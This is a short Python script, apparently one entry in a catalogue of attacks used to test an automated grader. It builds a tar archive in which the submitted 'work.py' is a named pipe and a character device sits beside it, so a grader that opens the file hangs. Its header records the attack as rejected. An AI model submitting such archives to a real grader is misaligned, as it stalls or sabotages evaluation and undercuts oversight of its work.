"""A tar in which the file that is asked for is a pipe, beside devices: whoever opens it waits for ever."""
# /// attack
# class = 65
# goal = "have the grader open a device or a pipe, and wait"
# gain = "hang"
# kind = "build"
# outcome = "rejected"
# naive = true
# ///

import tarfile


def build(folder):
    path = folder / "handed_in.tar"
    with tarfile.open(path, "w") as archive:
        member = tarfile.TarInfo("work.py")
        member.type = tarfile.FIFOTYPE
        archive.addfile(member)
        for kind, number in ((tarfile.CHRTYPE, (1, 5)), (tarfile.BLKTYPE, (7, 0))):
            member = tarfile.TarInfo(f"device-{number[0]}")
            member.type, (member.devmajor, member.devminor) = kind, number
            if kind == tarfile.CHRTYPE:
                archive.addfile(member)
    return path
